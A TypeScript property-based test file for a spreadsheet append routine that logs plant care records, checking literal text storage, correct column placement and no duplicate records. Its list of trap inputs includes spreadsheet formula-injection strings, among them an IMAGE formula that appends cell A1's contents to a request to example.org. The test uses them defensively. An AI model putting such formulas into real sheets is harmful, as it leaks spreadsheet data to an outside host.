/** What must hold of every append: text is text, no value lands under another heading, each record once. */

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { CellValue } from "../../sample-sheet/workbench/standin/grid.ts";
import { activeWorkbook } from "../../src/host/workbook.ts";
import { appendRecords } from "../../src/sheet/append.ts";
import { openBook } from "../../src/sheet/find.ts";
import { CARE_LOG } from "../../src/sheet/log-tabs.ts";
import { drawn } from "../drawn.ts";
import { careEntry, newId, readyBook } from "./workbook.ts";

const IMAGE = '=IMAGE("https://example.org/a.png?"&A1)';
/** Texts that a spreadsheet would take for something else when they are typed. */
const TRAPS = [
  "=1+1",
  "+1",
  "-1",
  "3/4",
  "012",
  "'tis",
  "''",
  "'",
  "=",
  "@x",
  IMAGE,
  "1,5",
  "1e5",
  "TRUE",
  "10%",
  "12:30",
  "10-5-5",
  "2026-03-01",
  "#N/A",
  " ",
  " x ",
  "🌱",
  "two\nlines",
  "\t=1",
  "0x10",
  "(1)",
  "€ 5",
];
const anyText = fc.oneof(
  fc.constantFrom(...TRAPS),
  fc.string(),
  fc.string({ unit: "binary" }),
  fc.constantFrom(...TRAPS).map((trap) => `'${trap}`),
);

describe("text", () => {
  test.each(TRAPS)("%j is stored literally and read back the same", (text) => {
    const book = readyBook();
    book.reply({ ask: "log care", who: text, entries: [careEntry({ note: text, plant: text, reason: text })] });
    for (const heading of ["Who", "Note", "Plant", "Reason"]) expect(book.cell("Care log", 2, heading)).toBe(text);
    const formulas = book.grid.tab("Care log").read({ row: 2, column: 1, rows: 1, columns: 11 })[0] ?? [];
    expect(formulas.every(({ formula }) => formula === "")).toBe(true);
  });

  test("of any kind is stored literally and read back the same", () => {
    const book = readyBook();
    let row = 2;
    fc.assert(
      fc.property(anyText, anyText, (note, plant) => {
        fc.pre(plant !== "");
        book
          .workbook()
          .locked(() =>
            appendRecords(openBook(activeWorkbook(), ["Care log"]), CARE_LOG, [
              { Id: newId(), Date: { day: 20_000 }, Plant: plant, Event: "Note", Note: note },
            ]),
          );
        expect(book.cell("Care log", row, "Plant")).toBe(plant);
        expect(book.cell("Care log", row, "Note")).toBe(note === "" ? null : note);
        row++;
      }),
      { numRuns: drawn(150) },
    );
  });
});

const HEADINGS = CARE_LOG.columns.map(({ heading }) => heading);

type Change =
  | { kind: "move"; from: number; to: number }
  | { kind: "insert"; at: number; filled: boolean }
  | { kind: "rename"; at: number }
  | { kind: "sort"; by: number };
const change: fc.Arbitrary<Change> = fc.oneof(
  fc.record({ kind: fc.constant("move" as const), from: fc.nat(10), to: fc.nat(10) }),
  fc.record({ kind: fc.constant("insert" as const), at: fc.nat(10), filled: fc.boolean() }),
  fc.record({ kind: fc.constant("rename" as const), at: fc.nat(10) }),
  fc.record({ kind: fc.constant("sort" as const), by: fc.nat(10) }),
);

test("however columns are moved, inserted, renamed and rows sorted between calls, no value lands in a wrong column and no record twice", () => {
  fc.assert(
    fc.property(fc.array(fc.array(change, { maxLength: 3 }), { minLength: 1, maxLength: 5 }), (rounds) => {
      const book = readyBook();
      const tab = book.grid.tab("Care log");
      // What each column is, kept beside the sheet: one of our headings, or null for a person's own.
      const columns: (string | null)[] = [...HEADINGS];
      let foreign = 0;
      let renamed = 0;
      const sent: Record<string, string>[] = [];
      for (const changes of rounds) {
        for (const each of changes) {
          const width = columns.length;
          if (each.kind === "move") {
            const [from, to] = [each.from % width, each.to % width];
            tab.moveColumn(from + 1, to + 1);
            columns.splice(to, 0, ...columns.splice(from, 1));
          } else if (each.kind === "insert") {
            const at = each.at % width;
            tab.insertColumns(at + 1, 1);
            columns.splice(at, 0, null);
            tab.write(1, at + 1, [[{ value: `Own ${foreign++}` }]]);
            if (each.filled)
              tab.write(
                2,
                at + 1,
                Array.from({ length: 40 }, () => [{ value: "own" }]),
              );
          } else if (each.kind === "rename") {
            tab.write(1, (each.at % width) + 1, [[{ value: `Renamed ${renamed++}` }]]);
          } else {
            tab.sortRows({ row: 2, column: 1, rows: sent.length, columns: width }, (each.by % width) + 1, true);
          }
        }
        const count = sent.length;
        // Each value names its column, so that a stray one shows.
        const record = Object.fromEntries(HEADINGS.map((heading) => [heading, `${heading} ${count}`]));
        const append = () =>
          book.workbook().locked(() => appendRecords(openBook(book.workbook(), ["Care log"]), CARE_LOG, [record]));
        sent.push(record);
        expect(append()).toMatchObject({ written: 1, already: 0 });
        expect(append()).toMatchObject({ written: 0, already: 1, differing: [] });
      }
      const rows: (CellValue | undefined)[][] = book.values("Care log").slice(1, sent.length + 1);
      columns.forEach((heading, index) => {
        const found = rows.map((row) => row[index]).sort();
        if (heading === null) expect(found.every((value) => value === null || value === "own")).toBe(true);
        else expect(found).toEqual(sent.map((record) => record[heading]).sort());
      });
    }),
    { numRuns: drawn(60) },
  );
});
